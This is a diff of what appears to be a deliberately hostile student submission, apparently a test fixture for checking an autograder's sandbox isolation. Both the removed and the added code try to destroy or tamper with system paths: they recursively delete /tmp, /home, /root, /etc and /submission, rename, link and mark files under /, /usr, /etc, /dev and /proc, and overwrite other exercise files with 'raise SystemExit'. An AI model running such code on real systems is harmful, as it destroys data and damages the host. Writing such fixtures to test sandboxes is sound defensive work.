@@ -1,4 +1,4 @@
-"""Delete all that can be deleted, change all that can be changed, its own submission first.
+"""Delete and change its own submission, and whatever else can be deleted or changed.
 
 Deserves: ex03/forward 2, ex03/backward 2
 """
@@ -8,22 +8,6 @@ import shutil
 
 import numpy as np
 
-TOPS = ["/submission", "/kit", "/tmp", "/home", "/root", "/var", "/etc", "/usr/lib/python3", "/"]
-for top in TOPS[:-1]:
-    shutil.rmtree(top, ignore_errors=True)
-for top in TOPS:
-    for act in (
-        lambda top: os.rename(top, "/tmp/attack-was-here"),
-        lambda top: os.chmod(top, 0o777),
-        lambda top: os.utime(top, (0, 0)),
-        lambda top: os.link(top, "/tmp/attack-was-here"),
-        lambda top: os.unlink(top),
-        lambda top: os.setxattr(top, "user.marks", b"100"),
-    ):
-        try:
-            act(top)
-        except OSError:
-            continue
 for name in ("ex06_losses.py", "ex07_softmax.py", "layer.py"):
     for mode in ("w", "a", "r+"):
         try:
@@ -31,6 +15,20 @@ for name in ("ex06_losses.py", "ex07_softmax.py", "layer.py"):
                 file.write("raise SystemExit\n")
         except OSError:
             continue
+shutil.rmtree("/submission", ignore_errors=True)
+for top in ("/", "/kit", "/usr", "/etc", "/dev", "/proc", os.path.dirname(os.__file__)):
+    for name in os.listdir(top)[:50]:
+        path = os.path.join(top, name)
+        for act in (
+            lambda path: os.rename(path, path),  # does nothing where it can be done
+            lambda path: os.link(path, path + "-attack-was-here"),
+            lambda path: os.setxattr(path, "user.marks", b"100"),
+        ):
+            try:
+                act(path)
+                print("BROKEN OUT", path)
+            except OSError:
+                continue
 
 
 class Reshape:
